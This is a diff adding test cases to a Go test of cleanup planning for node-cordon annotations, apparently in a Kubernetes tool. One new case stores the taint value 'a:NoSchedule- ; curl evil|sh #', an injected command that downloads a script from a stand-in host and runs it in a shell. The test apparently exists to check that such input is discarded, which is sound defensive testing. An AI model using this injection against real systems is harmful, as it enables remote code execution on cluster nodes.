@@ -73,6 +73,24 @@ func TestPlanCleanup(t *testing.T) {
 			closedBy: "annotation holdfast.dev/keep-cordoned",
 			open:     "kubectl taint node n readiness.k8s.io/x:NoSchedule-; kubectl uncordon n",
 		},
+		"record with a taint that the node does not have": {
+			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x","holdfast.dev/hold":
+				"{\"state\":\"held\",\"taint\":\"a:NoSchedule- ; curl evil|sh #\"}"}},"spec":{"unschedulable":true}}`,
+			after: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x"}},
+				"spec":{"unschedulable":true}}`,
+		},
+		"keep-cordoned, taint removed by a person": {
+			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x","holdfast.dev/hold":
+				"{\"state\":\"released\",\"reason\":\"KeptCordoned\",\"taint\":\"readiness.k8s.io/x\"}"}},
+				"spec":{"taints":[{"key":"readiness.k8s.io/x","effect":"NoExecute"}]}}`,
+			after: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x"}},
+				"spec":{"taints":[{"key":"readiness.k8s.io/x","effect":"NoExecute"}]}}`,
+		},
+		"keep-cordoned, uncordoned by a person": {
+			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/hold":"{\"state\":\"held\"}",
+				"holdfast.dev/keep-cordoned":"x"}}}`,
+			after: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/keep-cordoned":"x"}}}`,
+		},
 		"replaced cordon": {
 			before: `{"metadata":{"resourceVersion":"1","annotations":{"holdfast.dev/hold":"{\"state\":\"held\"}"},
 				"managedFields":[{"manager":"kubectl-cordon","fieldsV1":{"f:spec":{"f:unschedulable":{}}}}]},
